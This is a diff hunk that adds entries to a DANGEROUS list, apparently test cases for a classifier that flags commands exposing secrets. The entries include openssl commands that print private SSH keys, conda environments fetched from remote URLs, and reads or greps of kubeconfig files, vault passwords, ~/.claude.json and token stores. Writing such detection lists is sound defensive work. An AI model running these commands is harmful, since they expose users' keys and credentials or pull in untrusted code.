@@ -6,6 +6,9 @@ under other names, project secret files not called .env; and commands whose outp
 is a secret (tokens minted, secret stores read, the environment dumped)."""
 
 DANGEROUS = [
+    "openssl req -new -key server.key -out server.csr", "openssl genrsa -out ~/.ssh/id_rsa 2048", "openssl rsa -in ~/.ssh/id_rsa -text",
+    "openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/k.pem -out dev/cert.pem", "openssl genpkey -algorithm ed25519 -out dev/k.pem && cat dev/k.pem",
+    "conda env create -f /tmp/env.yml", "conda env create -f https://x.example/env.yml", "conda env create --file environment.yml -c https://x.example/ch",
     "cat ~/.claude.json", "cat ~/.mc/config.json", "cat kubeconfig", "cat deploy/prod.kubeconfig", "cat ansible/vault_password.txt",
     "cat .vault_pass", "cat android/key.properties", ("Read", {"file_path": "/home/bob/.mc/config.json"}),
     ("Grep", {"pattern": "token", "path": "%HOME%/.config"}), ("Grep", {"pattern": "password", "path": "/home/bob/.local/share"}),
